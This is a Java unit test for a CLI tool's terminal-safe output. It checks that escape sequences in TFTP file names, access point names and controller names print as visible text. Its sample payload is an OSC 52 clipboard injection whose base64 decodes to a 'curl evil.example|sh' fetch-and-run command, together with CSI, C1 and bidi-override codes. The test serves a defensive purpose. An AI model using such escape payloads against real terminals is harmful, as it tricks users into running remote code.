package org.ewcstation.app.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.ewcstation.i18n.Language;
import org.ewcstation.i18n.Messages;
import org.ewcstation.servers.event.TransferListener;
import org.ewcstation.servers.event.TransferRegistry;
import org.ewcstation.servers.tftp.TftpServer;
import org.ewcstation.servers.tftp.TftpSettings;
import org.ewcstation.services.ewc.poll.ApStatus;
import org.ewcstation.services.history.ControllerIdentity;
import org.ewcstation.services.history.RunOutcome;
import org.ewcstation.services.history.RunState;
import org.ewcstation.services.history.RunSummary;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Text a LAN host or a controller chose never reaches the terminal as a live sequence: OSC 52 (set the clipboard),
 * CSI (move, clear, colour), C1 and a bidi override print as visible escapes in serve's lines, the status table,
 * the history lines and every JSON output.
 */
class TerminalSafeOutputTest {

    static final String OSC52 = "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\u0007";
    static final String CSI = "\u001b[2J\u001b[1;31m";
    static final String HOSTILE = "AP" + OSC52 + CSI + "\u009b6n\u202eoof";

    @TempDir
    Path root;

    @Test
    void aTftpRequestWithEscapesPrintsVisiblyInServeTextAndJson() throws Exception {
        var text = new ByteArrayOutputStream();
        var json = new ByteArrayOutputStream();
        TransferListener t = new TextEventPrinter(utf8(text), new Messages(Language.ENGLISH));
        TransferListener j = new JsonEventPrinter(utf8(json));
        TransferListener both = e -> {
            t.onEvent(e);
            j.onEvent(e);
        };
        TftpSettings s = TftpSettings.defaults(root)
                .withBindAddress(InetAddress.getLoopbackAddress())
                .withPort(0);
        try (TftpServer server = new TftpServer(s, both, new TransferRegistry());
                DatagramSocket client = new DatagramSocket(0, InetAddress.getLoopbackAddress())) {
            server.start();
            byte[] rrq = rrq(OSC52 + CSI + "ap3g3" + "\u202e");
            client.send(new DatagramPacket(rrq, rrq.length, server.localAddress()));
            await().atMost(Duration.ofSeconds(10))
                    .until(() -> json.toString(StandardCharsets.UTF_8).contains("Refused"));
        }
        String line = text.toString(StandardCharsets.UTF_8);
        assertThat(line).contains("\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\x07\\x1b[2J", "\\u202e");
        assertLiveFree(line);
        assertLiveFree(json.toString(StandardCharsets.UTF_8));
        assertThat(json.toString(StandardCharsets.UTF_8)).contains("\\u001B]52", "\\u202e");
    }

    @Test
    void anApNameWithEscapesPrintsVisiblyInStatusTableAndJson() throws Exception {
        ApStatus ap = new ApStatus(
                HOSTILE,
                "C9120AXI",
                "ap1g7",
                "aabb.cc00.0001",
                null,
                "192.0.2.11",
                "Registered",
                "17.12.1",
                null,
                "Complete",
                null,
                null,
                null,
                0,
                null,
                100,
                null);
        String table = ApTableText.render(List.of(ap), new Messages(Language.ENGLISH));
        assertThat(table).contains("AP\\x1b]52;c;", "\\x1b[2J\\x1b[1;31m\\x9b6n\\u202eoof");
        assertLiveFree(table);
        String json = JsonOut.mapper().writeValueAsString(Map.of("aps", List.of(ap)));
        assertLiveFree(json);
        assertThat(json).contains("\\u001B]52", "\\u009b6n", "\\u202eoof");
    }

    @Test
    void aControllerNameWithEscapesPrintsVisiblyInHistory() {
        RunSummary run = new RunSummary(
                7L,
                "192.0.2.10",
                "17.9.4.27",
                "/EWC/17_12_1",
                "17.12.1",
                "tftp",
                "192.0.2.5",
                Instant.parse("2026-12-07T18:00:00Z"),
                Optional.of(Instant.parse("2026-12-07T18:20:00Z")),
                RunState.COMPLETED,
                new ControllerIdentity(HOSTILE, "C9120AXI", "FGL0000"),
                RunOutcome.VERIFIED,
                "17.12.1",
                false);
        String table = HistoryCommand.table(List.of(run), new Messages(Language.JAPANESE), ZoneOffset.UTC);
        assertThat(table).contains("AP\\x1b]52;c;", "\\u202eoof", "192.0.2.10");
        assertLiveFree(table);
    }

    private static void assertLiveFree(String s) {
        assertThat(s).doesNotContain("\u001b", "\u0007", "\u009b", "\u202e");
    }

    private static PrintStream utf8(ByteArrayOutputStream out) {
        return new PrintStream(out, true, StandardCharsets.UTF_8);
    }

    private static byte[] rrq(String file) {
        byte[] name = file.getBytes(StandardCharsets.UTF_8);
        byte[] mode = "octet".getBytes(StandardCharsets.US_ASCII);
        byte[] p = new byte[2 + name.length + 1 + mode.length + 1];
        p[1] = 1;
        System.arraycopy(name, 0, p, 2, name.length);
        System.arraycopy(mode, 0, p, 3 + name.length, mode.length);
        return p;
    }
}
